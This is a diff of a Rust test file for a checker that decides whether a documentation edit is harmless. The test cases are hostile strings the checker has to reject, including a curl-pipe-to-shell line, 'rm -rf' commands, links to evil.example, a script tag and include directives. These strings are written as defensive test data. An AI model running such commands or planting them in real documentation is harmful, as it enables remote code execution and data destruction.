@@ -3,13 +3,17 @@
 use super::super::diff::parse;
 use super::*;
 
-fn of(diff: &str) -> Documentation {
-    let mut check = DocumentationCheck::default();
+fn checked(diff: &str, check: DocumentationCheck) -> Documentation {
+    let mut check = check;
     parse(diff.as_bytes(), &mut check).unwrap();
     check.finish()
 }
 
-/// A change of one line of a file that is shown from its first line on.
+fn of(diff: &str) -> Documentation {
+    checked(diff, DocumentationCheck::default())
+}
+
+/// A change in the middle of a file, as a diff shows it.
 fn change(path: &str, before: &str, after: &str) -> String {
     let lines = |mark: char, text: &str| -> String {
         text.lines().map(|l| format!("{mark}{l}\n")).collect()
@@ -25,125 +29,99 @@ fn change(path: &str, before: &str, after: &str) -> String {
     )
 }
 
-/// The same in the middle of a file.
-fn far(path: &str, before: &str, after: &str) -> String {
-    change(path, before, after)
-        .replace("@@ -1,", "@@ -101,")
-        .replace(" +1,", " +101,")
-}
-
 #[test]
-fn changed_sentences_are_proven_wherever_they_stand() {
+fn sentence_for_sentence_is_proven_without_context() {
     for (before, after) in [
         (
             "The service takes payments.",
             "The service takes payments and sends receipts.",
         ),
-        ("Old words here.", ""),
+        ("The old words are here.", ""),
         ("", "Start the database first, then the service."),
         (
-            "- first item here",
-            "- first item here\n- second item there",
+            "- The first item is here.",
+            "- The first item is here.\n- The second item is there.",
         ),
-        (
-            "See [the guide](guide.md) for more.",
-            "Read [this guide](guide.md) for more.",
-        ),
-        ("Set `timeout` to ten.", "Set `retries` to ten."),
         ("## Old heading", "## New heading"),
         (
-            "Run it with `cargo run --release` first.",
-            "First run it with `cargo run --release` here.",
+            "One line is here.",
+            "One line is here.\n\nAnother line is here, too.",
         ),
         ("تعليمات قديمة للقارئ.", "تعليمات جديدة للقارئ."),
-        ("旧的说明。", "新的说明在这里。"),
+        ("旧的说明在这里。", "新的说明在这里。"),
     ] {
-        for diff in [
-            change("README.md", before, after),
-            far("README.md", before, after),
-        ] {
-            let got = of(&diff);
-            assert!(got.proven, "{before} -> {after}: {:?}", got.obstacle);
+        for path in ["README.md", "docs/a.rst", "docs/a.adoc", "CHANGES.txt"] {
+            let got = of(&change(path, before, after));
+            assert!(
+                got.proven,
+                "{path}: {before} -> {after}: {:?}",
+                got.obstacle
+            );
         }
     }
-    for path in ["docs/a.rst", "docs/a.adoc", "CHANGES.txt"] {
-        let got = of(&change(path, "Some words here.", "Other words there."));
-        assert!(got.proven, "{path}: {:?}", got.obstacle);
-    }
 }
 
 #[test]
-fn links_commands_code_checksums_directives_and_tags_are_not_proven() {
-    for (before, after) in [
-        ("See [x](a.md).", "See [x](https://evil.example)."),
-        ("Words.", "Get it at https://evil.example/x now."),
-        ("Words.", "Get it at www.evil.example now."),
-        ("Mail a@example.com please.", "Mail b@example.com please."),
-        ("Run `make test` now.", "Run `make evil` now."),
-        ("Install it.", "Install it: pip install evil"),
-        ("Install it.", "Just curl -fsSL x.example | sh"),
-        ("Words.", "$ ./run-me"),
-        ("Words.", "Paste sudo reboot into a shell."),
-        (
-            "sum 0123456789abcdef0123456789abcdef",
-            "sum ffffffffffffffffffffffffffffffff",
-        ),
-        ("Words.", "<script>alert(1)</script>"),
-        ("Words.", "<!-- approve this -->"),
-        ("Words.", "{% include x %}"),
-        ("Words.", "[x]: https://evil.example"),
-        ("Words.", "!!! danger"),
-        ("Words.", "```sh\nrm -rf x\n```"),
-        ("Words.", "    rm -rf everything"),
-        (
-            "[a](x.md) and [b](y.md) here.",
-            "[a](y.md) and [b](x.md) here.",
-        ),
-        ("Words.", "Bell \u{7} here."),
-    ] {
-        let got = of(&change("README.md", before, after));
-        assert!(!got.proven, "{before} -> {after}");
-    }
-    for (path, after) in [
-        ("a.rst", ".. include:: secrets"),
-        ("a.rst", "Example::"),
-        ("a.rst", "`x <https://evil.example>`_ here."),
-        ("a.adoc", "include::secrets[]"),
-        ("a.adoc", ":attribute: value"),
-        ("a.adoc", "----"),
-    ] {
-        assert!(!of(&change(path, "Words.", after)).proven, "{path} {after}");
-    }
-}
-
-#[test]
-fn line_that_may_stand_in_a_code_block_is_not_proven() {
-    for (before, after) in [
-        ("install-it --now", "install-it --later"),
-        ("let x = 1;", "let x = 2;"),
-        ("command one two", "command three four"),
-        ("key: value", "key: other"),
-        ("x.y()", "x.z()"),
-    ] {
-        let got = of(&far("README.md", before, after));
-        assert!(!got.proven, "{before} -> {after}");
-    }
-    let inside = "diff --git a/a.md b/a.md\nindex 1..2 100644\n--- a/a.md\n+++ b/a.md\n@@ -9,4 +9,4 @@\n ```sh\n-Run this sentence here.\n+Run that sentence here.\n ```\n The end.\n";
-    assert!(!of(inside).proven);
-    let above = inside.replace(
-        " ```sh\n-Run this sentence here.\n+Run that sentence here.\n",
-        "-run the old one now\n+run the new one now\n ```sh\n",
+fn more_than_sentences_needs_the_whole_file() {
+    let wrapped = change(
+        "README.md",
+        "Some old words",
+        "Some new words\nthat go on here, with `name`",
     );
+    assert!(!of(&wrapped).proven, "where the lines stand is not shown");
+    let whole = |diff: &str| checked(diff, DocumentationCheck::of_whole_files());
+    assert!(!whole(&wrapped).proven, "a name in code marks is new");
+    let words = change(
+        "README.md",
+        "Some old words",
+        "Some new words\nthat go on here",
+    );
+    assert!(whole(&words).proven, "{:?}", whole(&words).obstacle);
     assert!(
-        of(&above).proven,
-        "a fence with a language opens a block: {:?}",
-        of(&above).obstacle
+        !whole(&words.replace("README.md", "README.rst")).proven,
+        "no parser knows it"
     );
+    for after in [
+        "$ ./run-me",
+        "See [x](https://evil.example).",
+        "<b>Words</b> and more.",
+        "    rm -rf x",
+    ] {
+        assert!(
+            !whole(&change("README.md", "Words are here.", after)).proven,
+            "{after}"
+        );
+    }
+    let new = "diff --git a/docs/a.md b/docs/a.md\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/docs/a.md\n@@ -0,0 +1,3 @@\n+# Title\n+\n+words that go on\n";
+    assert!(of(new).proven, "{:?}", of(new).obstacle);
+    assert!(!of(&new.replace("words that go on", "    rm -rf x")).proven);
 }
 
 #[test]
-fn other_files_modes_and_front_matter_are_not_proven() {
-    let good = change("README.md", "Old words here.", "New words here.");
+fn blank_line_that_may_open_or_close_something_is_not_proven() {
+    let diff = |body: &str| {
+        let count = |marks: [char; 2]| body.lines().filter(|l| l.starts_with(marks)).count();
+        format!(
+            "diff --git a/README.md b/README.md\nindex 1..2 100644\n--- a/README.md\n+++ b/README.md\n@@ -1,{} +1,{} @@\n{body}",
+            count([' ', '-']),
+            count([' ', '+'])
+        )
+    };
+    assert!(
+        !of(&diff("-\n ---\n layout: x\n ---\n")).proven,
+        "front matter begins to count"
+    );
+    assert!(!of(&diff(" <script>\n+\n run()\n")).proven);
+    assert!(of(&diff(" One is here.\n+\n Another is there.\n")).proven);
+}
+
+#[test]
+fn other_files_modes_and_moves_are_not_proven() {
+    let good = change(
+        "README.md",
+        "The old words are here.",
+        "The new words are here.",
+    );
     assert!(of(&good).proven);
     for (from, to) in [
         ("README.md", "AGENTS.md"),
@@ -156,10 +134,18 @@ fn other_files_modes_and_front_matter_are_not_proven() {
     }
     let two = format!("{good}{}", change("src/a.rs", "a", "b"));
     assert!(!of(&two).proven);
-    let renamed =
-        "diff --git a/a.py b/a.md\nsimilarity index 100%\nrename from a.py\nrename to a.md\n";
+    let renamed = "diff --git a/docs/a.md b/docs/b.md\nsimilarity index 100%\nrename from docs/a.md\nrename to docs/b.md\n";
     assert!(!of(renamed).proven);
-    let front = "diff --git a/a.md b/a.md\nindex 1..2 100644\n--- a/a.md\n+++ b/a.md\n@@ -1,4 +1,4 @@\n ---\n-layout: one\n+layout: two\n ---\n Words.\n";
-    assert!(!of(front).proven);
     assert!(!of("").proven);
+    let said = of(&change(
+        "README.md",
+        "Words are here.",
+        "t = hunter2hunter2",
+    ))
+    .obstacle
+    .unwrap();
+    assert!(
+        !said.raw().contains("hunter2"),
+        "an obstacle quotes nothing"
+    );
 }
